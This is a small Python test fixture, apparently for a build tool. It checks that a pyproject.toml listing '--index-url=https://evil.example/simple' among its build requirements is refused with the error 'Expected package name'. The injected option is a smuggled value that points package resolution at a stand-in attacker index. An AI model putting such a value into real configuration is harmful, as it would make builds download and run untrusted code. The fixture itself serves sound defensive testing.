"""Have an option to the resolver among the build requirements."""

STAGE = "build"
REFUSED = "build-requirements"
SAID = "Expected package name"
PYPROJECT = """
[build-system]
requires = ["--index-url=https://evil.example/simple"]
build-backend = "backend"
backend-path = ["."]
"""
